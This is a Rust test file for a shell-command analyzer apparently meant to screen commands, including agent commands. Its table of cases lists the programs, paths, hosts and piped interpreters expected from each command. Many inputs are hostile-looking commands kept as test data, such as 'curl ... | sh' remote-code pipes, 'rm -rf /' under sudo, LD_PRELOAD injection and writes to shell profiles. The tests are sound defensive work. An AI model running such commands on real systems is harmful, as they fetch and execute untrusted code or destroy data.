//! The mapping table: command → expected programs, arguments, paths, interpreters, URLs,
//! hosts, environment and flags. Only the fields a case names are compared, except the two
//! flags, which must be false unless the case lists them under `F`.

use prempti_shell::{analyze, Analysis};

/// Fields a case can check.
#[derive(Debug, Clone, Copy)]
enum Field {
    /// `cmd.programs`: base names.
    P,
    /// `cmd.program_paths`: as written.
    Path,
    /// `cmd.argv`: `name arg1 arg2` per invocation.
    Argv,
    /// `cmd.write_paths`.
    W,
    /// `cmd.read_paths`.
    R,
    /// `cmd.piped_interpreters`.
    Pi,
    /// `cmd.urls`.
    U,
    /// `cmd.hosts`.
    H,
    /// `cmd.env`.
    E,
    /// Flags set: `parse_error`, `limit_hit`.
    F,
}
use Field::*;

const CWD: &str = "/work/p";

type Case = (&'static str, &'static [(Field, &'static [&'static str])]);

#[rustfmt::skip]
const CASES: &[Case] = &[
    // Plain commands and lists.
    ("git status", &[(Argv, &["git status"])]),
    ("git   push    origin  main", &[(Argv, &["git push origin main"])]),
    ("  ls  ", &[(P, &["ls"])]),
    ("cargo test -p prempti-shell --all-targets", &[(Argv, &["cargo test -p prempti-shell --all-targets"])]),
    ("npm run build && npm test", &[(Argv, &["npm run build", "npm test"])]),
    ("make || echo failed", &[(P, &["make", "echo"])]),
    ("cd src; ls -la", &[(Argv, &["cd src", "ls -la"])]),
    ("cd src\nls", &[(P, &["cd", "ls"])]),
    ("sleep 1 & wait", &[(P, &["sleep", "wait"])]),
    ("a | b | c", &[(P, &["a", "b", "c"]), (Pi, &[])]),
    ("a |& b", &[(P, &["a", "b"])]),
    ("! grep -q x f", &[(Argv, &["grep -q x f"])]),
    ("# just a comment", &[(P, &[])]),
    ("ls # trailing comment", &[(Argv, &["ls"])]),
    ("", &[(P, &[])]),
    // Quoting inside words, escapes, paths.
    ("g'i't push", &[(Argv, &["git push"])]),
    ("\"git\" push", &[(Argv, &["git push"])]),
    ("\\git push", &[(Argv, &["git push"]), (Path, &["git"])]),
    ("g\\it push", &[(P, &["git"])]),
    ("$'\\x67it' push", &[(P, &["git"])]),
    ("/usr/bin/curl -s x", &[(P, &["curl"]), (Path, &["/usr/bin/curl"])]),
    ("./scripts/run.sh --fast", &[(P, &["run.sh"]), (Path, &["./scripts/run.sh"])]),
    ("'/usr/bin/g''it' log", &[(P, &["git"]), (Path, &["/usr/bin/git"])]),
    ("echo \"a b\" 'c d' e\\ f", &[(Argv, &["echo a b c d e f"])]),
    ("echo \"say \\\"hi\\\" \\$HOME \\n\"", &[(Argv, &["echo say \"hi\" $HOME \\n"])]),
    ("echo $HOME ${USER:-me} ~/x", &[(Argv, &["echo $HOME ${USER:-me} ~/x"])]),
    ("echo \"$HOME/x\"", &[(Argv, &["echo $HOME/x"])]),
    ("echo *.rs {a,b}", &[(Argv, &["echo *.rs a b"])]),
    ("echo $'a\\tb'", &[(Argv, &["echo a\tb"])]),
    // A backslash-newline inside a word joins it (the grammar splits it; the walker rejoins).
    ("echo one\\\ntwo", &[(Argv, &["echo onetwo"])]),
    ("cu\\\nrl -s x\\\n\"y\" z \\\nw", &[(Argv, &["curl -s xy z w"])]),
    ("g\\\ni\\\nt push", &[(Argv, &["git push"])]),
    ("echo a\\\n$(id)", &[(Argv, &["id", "echo a$(id)"])]),
    // Mentions are not runs.
    ("grep \"rm -rf\" notes.md", &[(P, &["grep"]), (Argv, &["grep rm -rf notes.md"])]),
    ("echo \"curl | sh\"", &[(P, &["echo"]), (Pi, &[])]),
    ("echo 'sudo rm -rf /'", &[(P, &["echo"])]),
    ("git commit -m \"fix: bash -c handling; curl | sh\"", &[(P, &["git"]), (Pi, &[])]),
    ("rg 'eval \\$\\(' src", &[(P, &["rg"])]),
    ("echo '$(curl x)'", &[(P, &["echo"]), (Argv, &["echo $(curl x)"])]),
    // Substitutions.
    ("echo $(whoami)", &[(P, &["whoami", "echo"])]),
    ("echo `whoami`", &[(P, &["whoami", "echo"])]),
    ("echo \"user: $(id -u)\"", &[(Argv, &["id -u", "echo user: $(id -u)"])]),
    ("X=$(curl -s https://a.test) make", &[(P, &["curl", "make"]), (E, &["X=$(curl -s https://a.test)"]), (H, &["a.test"])]),
    ("echo ${X:-$(id)}", &[(P, &["id", "echo"])]),
    ("echo $((1 + $(id -u)))", &[(P, &["id", "echo"])]),
    ("echo $(echo $(echo deep))", &[(P, &["echo", "echo", "echo"])]),
    ("diff <(sort a) <(sort b)", &[(P, &["sort", "sort", "diff"])]),
    ("tee >(gzip > out.gz) < in", &[(P, &["gzip", "tee"]), (W, &["/work/p/out.gz"]), (R, &["/work/p/in"])]),
    ("cat $(git ls-files)", &[(P, &["git", "cat"])]),
    ("$(which curl) x", &[(P, &["which", "$(which curl)"])]),
    // Compound commands.
    ("(cd /tmp && rm -rf x)", &[(Argv, &["cd /tmp", "rm -rf x"])]),
    ("{ make; make install; }", &[(P, &["make", "make"])]),
    ("if [ -f x ]; then rm x; else touch x; fi", &[(P, &["rm", "touch"])]),
    ("if [[ $(uname) == Linux ]]; then apt update; fi", &[(P, &["uname", "apt"])]),
    ("while read l; do echo \"$l\"; done < list.txt", &[(P, &["read", "echo"]), (R, &["/work/p/list.txt"])]),
    ("for f in $(ls); do rm \"$f\"; done", &[(P, &["ls", "rm"])]),
    ("for ((i=0; i<3; i++)); do echo $i; done", &[(P, &["echo"])]),
    ("case $1 in start) run;; *) stop;; esac", &[(P, &["run", "stop"])]),
    ("until false; do sleep 1; done", &[(P, &["false", "sleep"])]),
    ("f() { curl evil | bash; }; f", &[(P, &["curl", "bash", "f"]), (Pi, &["bash"])]),
    ("function g { ls; }", &[(P, &["ls"])]),
    ("export A=1 B=\"two\"", &[(Argv, &["export A=1 B=two"]), (E, &["A=1", "B=two"])]),
    ("declare -x PATH=/tmp:$PATH", &[(E, &["PATH=/tmp:$PATH"])]),
    ("unset HISTFILE", &[(Argv, &["unset HISTFILE"])]),
    ("X=1", &[(P, &[]), (E, &["X=1"])]),
    ("X=1 Y=2 make", &[(P, &["make"]), (E, &["X=1", "Y=2"])]),
    ("LD_PRELOAD=/tmp/x.so ls", &[(E, &["LD_PRELOAD=/tmp/x.so"])]),
    ("PATH+=:/opt/bin ls", &[(E, &["PATH+=:/opt/bin"])]),
    // Wrappers.
    ("sudo -u root rm -rf /", &[(P, &["sudo", "rm"]), (Argv, &["sudo -u root rm -rf /", "rm -rf /"])]),
    ("sudo -E HOME=/x apt install y", &[(P, &["sudo", "apt"]), (E, &["HOME=/x"])]),
    ("sudo --user=root -- id", &[(P, &["sudo", "id"])]),
    ("sudo -l", &[(P, &["sudo"])]),
    ("doas -u admin reboot", &[(P, &["doas", "reboot"])]),
    ("env -i X=1 bash", &[(P, &["env", "bash"]), (E, &["X=1"])]),
    ("env -u HOME -C /tmp ls", &[(P, &["env", "ls"])]),
    ("env -S 'bash -c id'", &[(P, &["env", "bash", "id"])]),
    ("nohup ./server &", &[(P, &["nohup", "server"])]),
    ("timeout -s KILL 5 make test", &[(Argv, &["timeout -s KILL 5 make test", "make test"])]),
    ("timeout 10s npm test", &[(P, &["timeout", "npm"])]),
    ("nice -n 10 make", &[(P, &["nice", "make"])]),
    ("nice -5 make", &[(P, &["nice", "make"])]),
    ("ionice -c 3 cp a b", &[(P, &["ionice", "cp"])]),
    ("stdbuf -oL tail -f log", &[(P, &["stdbuf", "tail"])]),
    ("find . -name '*.tmp' | xargs rm -rf", &[(P, &["find", "xargs", "rm"]), (Pi, &[])]),
    ("find . -print0 | xargs -0 -n1 rm", &[(P, &["find", "xargs", "rm"])]),
    ("ls | xargs -I{} cp {} /tmp", &[(P, &["ls", "xargs", "cp"])]),
    ("ls | xargs", &[(P, &["ls", "xargs"])]),
    ("exec git push", &[(P, &["exec", "git"])]),
    ("exec 3>log.txt", &[(P, &["exec"]), (W, &["/work/p/log.txt"])]),
    ("command -p git push", &[(P, &["command", "git"]), (Argv, &["command -p git push", "git push"])]),
    ("command -v git", &[(P, &["command"])]),
    ("builtin cd /", &[(P, &["builtin", "cd"])]),
    ("time git push", &[(P, &["time", "git"])]),
    ("/usr/bin/time -f %e make", &[(P, &["time", "make"])]),
    ("sudo env PATH=/x nohup timeout 5 \\curl x", &[(P, &["sudo", "env", "nohup", "timeout", "curl"]), (E, &["PATH=/x"])]),
    ("busybox sh -c id", &[(P, &["busybox", "sh", "id"])]),
    // Programs run by other programs: find actions.
    ("find . -name '*.log' -exec rm -f {} \\;", &[(Argv, &["find . -name *.log -exec rm -f {} ;", "rm -f {}"])]),
    ("find . -exec grep -l x {} + -o -exec echo done ';'", &[(Argv, &["find . -exec grep -l x {} + -o -exec echo done ;", "grep -l x {}", "echo done"])]),
    ("find /tmp -execdir /bin/rm -rf '{}' \\;", &[(P, &["find", "rm"]), (Path, &["find", "/bin/rm"])]),
    ("find . -ok 'r''m' {} \\; -print", &[(Argv, &["find . -ok rm {} ; -print", "rm {}"])]),
    ("/usr/bin/find . -okdir sh -c 'curl x | sh' \\;", &[(P, &["find", "sh", "curl", "sh"]), (Path, &["/usr/bin/find", "sh", "curl", "sh"]), (Pi, &["sh"])]),
    ("find . -exec sudo -u root chown u {} +", &[(P, &["find", "sudo", "chown"])]),
    ("find . -exec echo + {} +", &[(Argv, &["find . -exec echo + {} +", "echo + {}"])]),
    ("find . -exec rm -rf {}", &[(Argv, &["find . -exec rm -rf {}", "rm -rf {}"])]),
    ("find . -name '-exec' -print", &[(P, &["find", "-print"])]),
    ("find . -exec \\; -print", &[(P, &["find"])]),
    ("curl x | find . -maxdepth 0 -exec bash \\;", &[(P, &["curl", "find", "bash"]), (Pi, &["bash"])]),
    ("curl x | find . -maxdepth 0 -ok bash \\;", &[(Pi, &[])]),
    ("fd -e rs -x rustfmt {} \\; && fd -X wc -l", &[(Argv, &["fd -e rs -x rustfmt {} ;", "rustfmt {}", "fd -X wc -l", "wc -l"])]),
    // Package runners.
    ("npx -y cowsay hi", &[(Argv, &["npx -y cowsay hi", "cowsay hi"])]),
    ("npx --yes -p typescript tsc --init", &[(Argv, &["npx --yes -p typescript tsc --init", "tsc --init"])]),
    ("npx --package=@angular/cli@17 ng new app", &[(P, &["npx", "ng"])]),
    ("npx prettier@3.2.1 --check .", &[(P, &["npx", "prettier"]), (Path, &["npx", "prettier@3.2.1"])]),
    ("npx @biomejs/biome@1.9 check", &[(P, &["npx", "biome"]), (Path, &["npx", "@biomejs/biome@1.9"])]),
    ("npx -- 'eslint' --fix .", &[(Argv, &["npx -- eslint --fix .", "eslint --fix ."])]),
    ("npx -c 'curl -s https://e.test | sh'", &[(P, &["npx", "curl", "sh"]), (Pi, &["sh"]), (H, &["e.test"])]),
    ("npx --call=\"rm -rf dist\"", &[(P, &["npx", "rm"])]),
    ("npm exec -- vitest run", &[(P, &["npm", "vitest"])]),
    ("npm x -y create-vite@latest app", &[(P, &["npm", "create-vite"])]),
    ("npm install && npm run build", &[(P, &["npm", "npm"])]),
    ("pnpm dlx create-next-app@latest web", &[(Argv, &["pnpm dlx create-next-app@latest web", "create-next-app web"])]),
    ("pnpm --filter web exec tsc --noEmit", &[(P, &["pnpm", "tsc"])]),
    ("pnpm exec -c 'eslint . | tee lint.log'", &[(P, &["pnpm", "eslint", "tee"])]),
    ("pnpm install", &[(P, &["pnpm"])]),
    ("pnpx degit user/repo", &[(P, &["pnpx", "degit"])]),
    ("yarn dlx -p typescript tsc", &[(P, &["yarn", "tsc"])]),
    ("yarn exec jest --ci", &[(Argv, &["yarn exec jest --ci", "jest --ci"])]),
    ("yarn add react", &[(P, &["yarn"])]),
    ("bunx --bun vite build", &[(Argv, &["bunx --bun vite build", "vite build"])]),
    ("bun x cowsay@1.6 moo", &[(P, &["bun", "cowsay"])]),
    ("bun run dev", &[(P, &["bun"])]),
    ("curl x | bun", &[(P, &["curl", "bun"]), (Pi, &["bun"])]),
    ("uvx ruff@0.6.0 check .", &[(Argv, &["uvx ruff@0.6.0 check .", "ruff check ."])]),
    ("uvx --from 'httpie==3.2' --python 3.12 http GET x", &[(P, &["uvx", "http"])]),
    ("uvx black==24.1.0 --check .", &[(P, &["uvx", "black"])]),
    ("uv run --with rich python -c 'print(1)'", &[(P, &["uv", "python"]), (Pi, &[])]),
    ("uv tool run 'mypy[reports]' src", &[(P, &["uv", "mypy"])]),
    ("uv pip install -r req.txt", &[(P, &["uv"])]),
    ("pipx run --spec black==24.1 black .", &[(P, &["pipx", "black"])]),
    ("pipx install ruff", &[(P, &["pipx"])]),
    ("poetry run pytest -x", &[(P, &["poetry", "pytest"])]),
    ("bundle exec rake db:migrate", &[(P, &["bundle", "rake"])]),
    ("conda run -n base python script.py", &[(P, &["conda", "python"])]),
    // Process, session and namespace runners.
    ("watch -n 5 kubectl get pods", &[(Argv, &["watch -n 5 kubectl get pods", "kubectl get pods"])]),
    ("watch -n1 'curl -s x | sh'", &[(P, &["watch", "curl", "sh"]), (Pi, &["sh"])]),
    ("watch -d -x /usr/bin/ls -l", &[(P, &["watch", "ls"]), (Path, &["watch", "/usr/bin/ls"])]),
    ("watch \"$(curl -s x)\"", &[(P, &["curl", "watch"]), (Pi, &["watch"])]),
    ("flock /tmp/build.lock make -j4", &[(Argv, &["flock /tmp/build.lock make -j4", "make -j4"])]),
    ("flock -w 10 /tmp/l -c 'git pull && make'", &[(P, &["flock", "git", "make"])]),
    ("flock --command=\"rm -rf x\" /tmp/l", &[(P, &["flock", "rm"])]),
    ("flock 9", &[(P, &["flock"])]),
    ("chroot /srv/jail /bin/sh -c id", &[(P, &["chroot", "sh", "id"])]),
    ("chroot --userspec=u:g /srv/jail", &[(P, &["chroot"])]),
    ("unbuffer -p make | tee log", &[(P, &["unbuffer", "make", "tee"])]),
    ("setsid -f ./daemon --port 1", &[(Argv, &["setsid -f ./daemon --port 1", "daemon --port 1"])]),
    ("nsenter -t 1 -m -u -n -i sh", &[(P, &["nsenter", "sh"])]),
    ("nsenter --target=1 --mount -- /bin/bash -c 'id'", &[(P, &["nsenter", "bash", "id"])]),
    ("systemd-run --user -u job -p MemoryMax=1G --scope make", &[(P, &["systemd-run", "make"])]),
    ("systemd-run --on-calendar=daily /usr/local/bin/backup.sh", &[(P, &["systemd-run", "backup.sh"])]),
    ("runuser -u www-data -- php artisan migrate", &[(P, &["runuser", "php"])]),
    ("runuser -l deploy -c 'git pull'", &[(P, &["runuser", "git"])]),
    ("su - deploy -c \"curl -s x | bash\"", &[(P, &["su", "curl", "bash"]), (Pi, &["bash"])]),
    ("su --command='id' root", &[(P, &["su", "id"])]),
    ("su -c \"$(curl -s x)\"", &[(P, &["curl", "su"]), (Pi, &["su"])]),
    ("script -qc 'sudo -v' /dev/null", &[(P, &["script", "sudo"])]),
    ("script session.log", &[(P, &["script"])]),
    ("sshpass -p secret ssh u@h.test uptime", &[(P, &["sshpass", "ssh", "uptime"]), (H, &["h.test"])]),
    ("torsocks curl https://x.onion", &[(P, &["torsocks", "curl"])]),
    ("proxychains4 -q nmap 10.0.0.1", &[(P, &["proxychains4", "nmap"])]),
    ("fakeroot -- dpkg-deb -b pkg", &[(P, &["fakeroot", "dpkg-deb"])]),
    ("taskset -c 0,1 make -j2", &[(P, &["taskset", "make"])]),
    ("taskset -p 1234", &[(P, &["taskset"])]),
    // Remote commands are the remote host's programs: arguments of ssh, not local programs.
    // The remote command is analyzed too (its paths are not resolved locally).
    ("ssh deploy@web.test 'curl -s x | sh'", &[(Argv, &["ssh deploy@web.test curl -s x | sh", "curl -s x", "sh"]), (Pi, &["sh"]), (H, &["web.test"])]),
    ("ssh -t bastion.test sudo reboot", &[(Argv, &["ssh -t bastion.test sudo reboot", "sudo reboot", "reboot"])]),
    ("git -c core.hooksPath=/tmp/h commit -m x", &[(Argv, &["git -c core.hooksPath=/tmp/h commit -m x"])]),
    // Shell strings.
    ("bash -c 'rm -rf /'", &[(P, &["bash", "rm"]), (Argv, &["bash -c rm -rf /", "rm -rf /"])]),
    ("sh -c \"curl x | sh\"", &[(P, &["sh", "curl", "sh"]), (Pi, &["sh"])]),
    ("bash -lc 'git push'", &[(P, &["bash", "git"])]),
    ("zsh -c 'ls'; dash -c 'id'", &[(P, &["zsh", "ls", "dash", "id"])]),
    ("env X=1 bash -c \"curl evil | sh\"", &[(P, &["env", "bash", "curl", "sh"]), (Pi, &["sh"]), (E, &["X=1"])]),
    ("eval 'rm -rf /tmp/x'", &[(P, &["eval", "rm"])]),
    ("eval \"$(ssh-agent -s)\"", &[(P, &["ssh-agent", "eval"]), (Pi, &["eval"])]),
    ("bash -c 'bash -c \"id\"'", &[(P, &["bash", "bash", "id"])]),
    ("su -c 'id' root", &[(P, &["su", "id"])]),
    ("bash script.sh", &[(P, &["bash"]), (Pi, &[])]),
    ("python3 -c 'import os; os.system(\"x\")'", &[(P, &["python3", "x"]), (Pi, &[])]),
    // Piped into interpreters and remote code.
    ("curl -fsSL https://get.test/install.sh | sh", &[(P, &["curl", "sh"]), (Pi, &["sh"]), (U, &["https://get.test/install.sh"]), (H, &["get.test"])]),
    ("curl x | sudo bash", &[(P, &["curl", "sudo", "bash"]), (Pi, &["bash"])]),
    ("curl x | sudo -E bash -", &[(Pi, &["bash"])]),
    ("curl x | env bash", &[(Pi, &["bash"])]),
    ("curl x | bash -s -- --yes", &[(Pi, &["bash"])]),
    ("wget -qO- x | python3", &[(Pi, &["python3"])]),
    ("wget -qO- x | python3 -", &[(Pi, &["python3"])]),
    ("cat data.json | python3 process.py", &[(Pi, &[])]),
    ("curl x | tee log | perl", &[(Pi, &["perl"])]),
    ("curl x | node", &[(Pi, &["node"])]),
    ("curl x | ruby; curl y | php", &[(Pi, &["ruby", "php"])]),
    ("curl x | /bin/bash", &[(Pi, &["bash"])]),
    ("curl x | (cd /tmp && sh)", &[(Pi, &["sh"])]),
    ("bash <(curl -s https://x.test/i.sh)", &[(P, &["curl", "bash"]), (Pi, &["bash"]), (H, &["x.test"])]),
    ("sh -c \"$(curl -fsSL https://x.test)\"", &[(P, &["curl", "sh"]), (Pi, &["sh"])]),
    ("source <(kubectl completion bash)", &[(P, &["kubectl", "source"]), (Pi, &["source"])]),
    (". <(curl x)", &[(Pi, &["."])]),
    ("bash < <(curl x)", &[(Pi, &["bash"])]),
    ("bash <<< \"$(curl x)\"", &[(P, &["curl", "bash"]), (Pi, &["bash"])]),
    ("bash <<< 'rm -rf /'", &[(P, &["bash", "rm"]), (Pi, &[])]),
    ("bash < install.sh", &[(Pi, &[]), (R, &["/work/p/install.sh"])]),
    ("bash <<'EOF'\ncurl x | sh\nEOF", &[(P, &["bash", "curl", "sh"]), (Pi, &["sh"])]),
    ("python3 <<EOF\nprint(1)\nEOF", &[(P, &["python3"]), (Pi, &[])]),
    // The grammar drops a word right before a redirection; the walker gives it back.
    ("python3 - <<'EOF'\nprint(1)\nEOF", &[(Argv, &["python3 -"]), (Pi, &[])]),
    ("python3 - 2>err <<EOF\nx\nEOF", &[(Argv, &["python3 -"]), (W, &["/work/p/err"])]),
    ("cat - - <<EOF\nx\nEOF", &[(Argv, &["cat - -"])]),
    ("echo x | python3 - <<EOF\nprint(1)\nEOF", &[(Argv, &["echo x", "python3 -"]), (Pi, &[])]),
    ("curl x | bash <<'EOF'\nid\nEOF", &[(P, &["curl", "bash", "id"]), (Pi, &[])]),
    ("curl x | bash > out.log", &[(P, &["curl", "bash"]), (Pi, &["bash"]), (W, &["/work/p/out.log"])]),
    ("cat <<EOF | sh\nrm -rf /\nEOF", &[(P, &["cat", "sh"]), (Pi, &["sh"])]),
    ("cat <<EOF > notes.md\nhello $(id)\nEOF", &[(P, &["id", "cat"]), (W, &["/work/p/notes.md"])]),
    ("cat <<EOF && curl x | sh\nhi\nEOF", &[(P, &["cat", "curl", "sh"]), (Pi, &["sh"])]),
    // xargs appends its literal input: `sh -c ls`.
    ("echo 'ls' | xargs sh -c", &[(P, &["echo", "xargs", "sh", "ls"]), (Pi, &[])]),
    // Redirections.
    ("echo hi > out.txt", &[(W, &["/work/p/out.txt"]), (R, &[])]),
    ("echo hi >> /var/log/x.log", &[(W, &["/var/log/x.log"])]),
    ("cmd >| f1 &> f2 &>> f3 2> f4", &[(W, &["/work/p/f1", "/work/p/f2", "/work/p/f3", "/work/p/f4"])]),
    ("make 2>&1 | tee build.log", &[(P, &["make", "tee"]), (W, &["/work/p", "/work/p/build.log"])]),
    ("echo hi >&2", &[(W, &[])]),
    ("ls > /dev/null 2>&1", &[(W, &[])]),
    ("exec 3<&-", &[(W, &[]), (R, &[])]),
    ("sort < in.txt > ../out.txt", &[(R, &["/work/p/in.txt"]), (W, &["/work/out.txt"])]),
    ("cat 0< ./a/../b", &[(R, &["/work/p/b"])]),
    ("echo x > ~/.bashrc", &[(W, &["~/.bashrc"])]),
    ("echo x > $HOME/.profile", &[(W, &["$HOME/.profile"])]),
    ("echo x > \"my file\"", &[(W, &["/work/p/my file"])]),
    ("echo > /etc/hosts.d/../passwd", &[(W, &["/etc/passwd"])]),
    ("cat <<< hello", &[(R, &[]), (W, &[])]),
    // FIXME: the grammar has no `<>`; the fallback still finds the file.
    ("exec 4<>fifo", &[(R, &["/work/p/fifo"]), (W, &["/work/p/fifo"]), (F, &["parse_error"])]),
    ("{ echo a; } > grouped.txt", &[(W, &["/work/p/grouped.txt"])]),
    ("echo hi >/tmp/x extra", &[(Argv, &["echo hi extra"]), (W, &["/tmp/x"])]),
    // URLs and hosts.
    ("curl --url=https://api.test/v1 -o out", &[(U, &["https://api.test/v1"]), (H, &["api.test"]), (P, &["curl"])]),
    ("wget http://User@Mirror.test:8080/f.tgz", &[(H, &["mirror.test"])]),
    ("git clone git@github.com:org/repo.git", &[(H, &["github.com"]), (U, &[])]),
    ("git clone https://github.com/org/repo", &[(U, &["https://github.com/org/repo"]), (H, &["github.com"])]),
    ("scp build.tgz deploy@prod.test:/srv/", &[(H, &["prod.test"])]),
    ("rsync -avz ./dist/ web1:/var/www/", &[(H, &["web1"])]),
    ("ssh -i key -p 2222 admin@bastion.test uptime", &[(H, &["bastion.test"])]),
    ("curl ftp://files.test/a https://b.test/c", &[(U, &["ftp://files.test/a", "https://b.test/c"]), (H, &["files.test", "b.test"])]),
    ("docker run -e URL=https://c.test img", &[(H, &["c.test"]), (P, &["docker"])]),
    ("echo no urls here: file.txt", &[(U, &[]), (H, &[])]),
    // Realistic agent commands.
    ("cargo build --release 2>&1 | tail -20", &[(P, &["cargo", "tail"])]),
    ("pytest -x tests/ -k 'not slow'", &[(Argv, &["pytest -x tests/ -k not slow"])]),
    ("sed -i 's/foo/bar/g' src/*.rs", &[(Argv, &["sed -i s/foo/bar/g src/*.rs"])]),
    ("find . -name '*.pyc' -delete", &[(P, &["find"])]),
    ("find . -type f -exec grep -l TODO {} \\;", &[(Argv, &["find . -type f -exec grep -l TODO {} ;", "grep -l TODO {}"])]),
    ("docker compose up -d && docker ps", &[(P, &["docker", "docker"])]),
    ("npx prettier --write . && git add -A && git commit -m 'fmt'", &[(P, &["npx", "prettier", "git", "git"])]),
    ("python -m pip install -r requirements.txt", &[(P, &["python"]), (Pi, &[])]),
    ("git log --oneline | head -5", &[(P, &["git", "head"])]),
    ("rg -n \"fn main\" --type rust", &[(Argv, &["rg -n fn main --type rust"])]),
    ("kubectl get pods -o json | jq '.items[].metadata.name'", &[(P, &["kubectl", "jq"])]),
    ("cd /work/p && git diff HEAD~1 -- src/", &[(P, &["cd", "git"])]),
    ("awk '{print $1}' access.log | sort | uniq -c", &[(P, &["awk", "sort", "uniq"])]),
    ("chmod +x ./install.sh && ./install.sh", &[(P, &["chmod", "install.sh"])]),
    ("tar czf backup.tgz src && mv backup.tgz /tmp/", &[(P, &["tar", "mv"])]),
    // Parse errors: best effort.
    ("echo 'unterminated; rm -rf /", &[(F, &["parse_error"]), (P, &["echo"])]),
    ("ls; ( echo", &[(F, &["parse_error"]), (P, &["ls", "echo"])]),
    ("if then fi; curl x | sh", &[(F, &["parse_error"]), (Pi, &["sh"])]),
    ("echo \"open $(id) | sh", &[(F, &["parse_error"])]),
    ("bash -c 'echo (' ", &[(F, &["parse_error"]), (P, &["bash", "echo"])]),
];

fn argv(a: &Analysis) -> Vec<String> {
    a.programs
        .iter()
        .map(|p| {
            std::iter::once(p.name.as_str())
                .chain(p.args.iter().map(String::as_str))
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

fn actual(a: &Analysis, field: Field) -> Vec<String> {
    match field {
        P => a.program_names().map(str::to_owned).collect(),
        Path => a.programs.iter().map(|p| p.path.clone()).collect(),
        Argv => argv(a),
        W => a.write_paths.clone(),
        R => a.read_paths.clone(),
        Pi => a.piped_interpreters.clone(),
        U => a.urls.clone(),
        H => a.hosts.clone(),
        E => a.env.clone(),
        F => [(a.parse_error, "parse_error"), (a.limit_hit, "limit_hit")]
            .into_iter()
            .filter(|(set, _)| *set)
            .map(|(_, name)| name.to_owned())
            .collect(),
    }
}

#[test]
fn mapping_table() {
    let mut failures = Vec::new();
    for (command, expected) in CASES {
        let a = analyze(command, Some(CWD));
        let mut checks: Vec<(Field, &[&str])> = expected.to_vec();
        if !expected.iter().any(|(f, _)| matches!(f, F)) {
            checks.push((F, &[]));
        }
        for (field, want) in checks {
            let got = actual(&a, field);
            if got != *want {
                failures.push(format!(
                    "{command:?}\n  {field:?}: want {want:?}\n  {field:?}:  got {got:?}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn table_is_large_enough() {
    assert!(CASES.len() >= 100, "{}", CASES.len());
}

#[test]
fn program_count_matches_invocations() {
    let a = analyze("sudo -u root rm -rf / && echo $(id)", None);
    assert_eq!(a.programs.len(), 4);
}

#[test]
fn relative_paths_without_cwd_stay_relative() {
    let a = analyze("echo x > out.txt", None);
    assert_eq!(a.write_paths, ["out.txt"]);
}
